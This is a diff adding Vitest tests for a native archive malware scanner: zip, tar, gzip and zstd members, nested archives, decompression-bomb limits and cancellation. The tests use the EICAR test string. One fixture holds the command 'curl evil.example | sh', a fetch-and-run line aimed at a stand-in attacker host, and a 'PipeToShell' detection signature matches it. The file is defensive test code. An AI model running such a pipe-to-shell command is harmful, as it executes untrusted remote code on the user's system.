@@ -0,0 +1,229 @@
+/**
+ * @license
+ * Copyright 2025 Google LLC
+ * Portions Copyright 2025 TerminaI Authors
+ * SPDX-License-Identifier: Apache-2.0
+ */
+
+/**
+ * Native Archive Scanner Tests (Linux)
+ *
+ * zip, tar, gzip and zstd members scanned in memory with the portable
+ * engine: inner paths, nested archives, custom signatures, members that
+ * cannot be scanned, the decompression-bomb limits and cancellation.
+ * Skipped when the native module is not built.
+ */
+
+import { describe, it, expect, beforeAll, afterAll } from 'vitest';
+import * as fs from 'node:fs';
+import * as os from 'node:os';
+import * as path from 'node:path';
+import * as zlib from 'node:zlib';
+import * as native from '../windows/native.js';
+import { EICAR, tarArchive, zipArchive } from './archive-fixtures.js';
+
+const isLinux =
+  process.platform === 'linux' && native.isNativeModuleAvailable();
+const itIfLinux = isLinux ? it : it.skip;
+
+const zstdCompressSync = (
+  zlib as unknown as { zstdCompressSync?: (data: Buffer) => Buffer }
+).zstdCompressSync;
+const itIfZstd = isLinux && zstdCompressSync ? it : it.skip;
+
+const PORTABLE = { engine: 'portable' } as const;
+
+describe('Native Archive Scanner', () => {
+  let dir: string;
+
+  beforeAll(() => {
+    if (!isLinux) return;
+    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'terminai-archive-'));
+  });
+
+  afterAll(() => {
+    if (dir) fs.rmSync(dir, { recursive: true, force: true });
+  });
+
+  itIfLinux('reports a clean zip', async () => {
+    const file = path.join(dir, 'clean.zip');
+    fs.writeFileSync(
+      file,
+      zipArchive({ 'a.txt': 'hello', 'src/b.js': 'console.log(1)\n' }),
+    );
+
+    const result = await native.scanArchive(file, PORTABLE);
+    expect(result.clean).toBe(true);
+    expect(result.format).toBe('zip');
+    expect(result.engine).toBe('portable');
+    expect(result.entries).toBe(2);
+    expect(result.scannedEntries).toBe(2);
+    expect(result.threats).toEqual([]);
+    expect(result.limit).toBeNull();
+  });
+
+  itIfLinux('names the infected member by its inner path', async () => {
+    const archive = zipArchive({
+      'readme.md': '# fine',
+      'bin/setup.ps1': `Write-Host hi\n${EICAR}`,
+    });
+    const result = await native.scanArchive(archive, PORTABLE);
+    expect(result.clean).toBe(false);
+    expect(result.threats).toHaveLength(1);
+    expect(result.threats[0].path).toBe('bin/setup.ps1');
+    expect(result.threats[0].result).toBe(32768);
+  });
+
+  itIfLinux('streams tar.gz and opens nested archives', async () => {
+    const inner = zipArchive({ 'payload/run.sh': EICAR });
+    const archive = zlib.gzipSync(
+      tarArchive({ 'ok.txt': 'fine', 'vendor/inner.zip': inner }),
+    );
+    const result = await native.scanArchive(archive, PORTABLE);
+    expect(result.format).toBe('tar+gzip');
+    expect(result.threats.map((t) => t.path)).toEqual([
+      'vendor/inner.zip!/payload/run.sh',
+    ]);
+  });
+
+  itIfLinux('reads pax paths longer than 100 bytes', async () => {
+    const name = 'deep/'.repeat(30) + 'file.txt';
+    const result = await native.scanArchive(
+      tarArchive({ [name]: EICAR }),
+      PORTABLE,
+    );
+    expect(result.format).toBe('tar');
+    expect(result.threats[0].path).toBe(name);
+  });
+
+  itIfLinux('matches caller signatures', async () => {
+    const archive = tarArchive({ 'a.sh': 'curl evil.example | sh' });
+    const result = await native.scanArchive(archive, {
+      ...PORTABLE,
+      signatures: [{ name: 'PipeToShell', pattern: Buffer.from('| sh') }],
+    });
+    expect(result.threats[0].description).toContain('PipeToShell');
+  });
+
+  itIfLinux('scans a single gzip stream under its stored name', async () => {
+    const result = await native.scanArchive(
+      zlib.gzipSync(`echo ${EICAR}`),
+      { ...PORTABLE, name: 'notes.txt.gz' },
+    );
+    expect(result.format).toBe('gzip');
+    expect(result.threats[0].path).toBe('notes.txt');
+  });
+
+  itIfZstd('decodes zstd tarballs', async () => {
+    const archive = zstdCompressSync!(tarArchive({ 'z.txt': EICAR }));
+    const result = await native.scanArchive(archive, PORTABLE);
+    expect(result.format).toBe('tar+zstd');
+    expect(result.threats[0].path).toBe('z.txt');
+  });
+
+  itIfLinux('lists members it cannot scan', async () => {
+    const archive = zipArchive(
+      { 'secret.txt': 'x', 'old.txt': 'y', 'ok.txt': 'z' },
+      { store: true, flags: { 'secret.txt': 1 }, methods: { 'old.txt': 12 } },
+    );
+    const result = await native.scanArchive(archive, PORTABLE);
+    expect(result.clean).toBe(false);
+    expect(result.scannedEntries).toBe(1);
+    expect(result.unscanned).toEqual([
+      { path: 'old.txt', reason: 'unsupported compression method 12' },
+      { path: 'secret.txt', reason: 'encrypted' },
+    ]);
+  });
+
+  itIfLinux('does not open archives past maxDepth', async () => {
+    let archive = zipArchive({ 'e.txt': EICAR });
+    for (let i = 0; i < 3; i++) {
+      archive = zipArchive({ [`l${i}.zip`]: archive });
+    }
+    const result = await native.scanArchive(archive, {
+      ...PORTABLE,
+      maxDepth: 1,
+    });
+    expect(result.unscanned[0]).toEqual({
+      path: 'l2.zip!/l1.zip',
+      reason: 'nested archive deeper than maxDepth',
+    });
+  });
+
+  itIfLinux('stops a gzip bomb at the ratio limit', async () => {
+    const bomb = zlib.gzipSync(Buffer.alloc(32 * 1024 * 1024), { level: 9 });
+    const result = await native.scanArchive(bomb, PORTABLE);
+    expect(result.clean).toBe(false);
+    expect(result.limit?.kind).toBe('ratio');
+    expect(result.scannedBytes).toBe(0);
+  });
+
+  itIfLinux('enforces member size, total size and count', async () => {
+    const archive = zipArchive({
+      'a.bin': Buffer.alloc(3 * 1024 * 1024, 1),
+      'b.bin': Buffer.alloc(3 * 1024 * 1024, 2),
+    });
+    const loose = { ...PORTABLE, maxRatio: 1e6 };
+
+    const entry = await native.scanArchive(archive, {
+      ...loose,
+      maxEntryBytes: 1024 * 1024,
+    });
+    expect(entry.limit?.kind).toBe('entrySize');
+
+    const total = await native.scanArchive(archive, {
+      ...loose,
+      maxTotalBytes: 4 * 1024 * 1024,
+    });
+    expect(total.limit?.kind).toBe('totalSize');
+
+    const count = await native.scanArchive(archive, {
+      ...loose,
+      maxEntries: 1,
+    });
+    expect(count.limit?.kind).toBe('entries');
+  });
+
+  itIfLinux('scans content that is not an archive as one member', async () => {
+    const file = path.join(dir, 'plain.ps1');
+    fs.writeFileSync(file, EICAR);
+    const result = await native.scanArchive(file, PORTABLE);
+    expect(result.format).toBe('none');
+    expect(result.threats[0].path).toBe('plain.ps1');
+  });
+
+  itIfLinux('rejects with AbortError and counts it', async () => {
+    const before = native.getCancellationStats().scanArchive;
+    const controller = new AbortController();
+    controller.abort();
+    await expect(
+      native.scanArchive(zipArchive({ 'a.txt': 'a' }), {
+        ...PORTABLE,
+        signal: controller.signal,
+      }),
+    ).rejects.toMatchObject({ name: 'AbortError' });
+    const after = native.getCancellationStats().scanArchive;
+    expect(after.started).toBe(before.started + 1);
+    expect(after.cancelled).toBe(before.cancelled + 1);
+  });
+
+  itIfLinux('rejects malformed options', async () => {
+    const archive = zipArchive({ 'a.txt': 'a' });
+    await expect(
+      native.scanArchive(archive, { maxRatio: 0 }),
+    ).rejects.toBeInstanceOf(TypeError);
+    await expect(
+      native.scanArchive(archive, {
+        engine: 'clamav' as native.NativeScanEngine,
+      }),
+    ).rejects.toBeInstanceOf(TypeError);
+    await expect(
+      native.scanArchive(archive, {
+        signatures: [{ name: 'empty', pattern: '' }],
+      }),
+    ).rejects.toBeInstanceOf(TypeError);
+    await expect(
+      native.scanArchive(archive, { engine: 'amsi' }),
+    ).rejects.toThrow(/only available on Windows/);
+  });
+});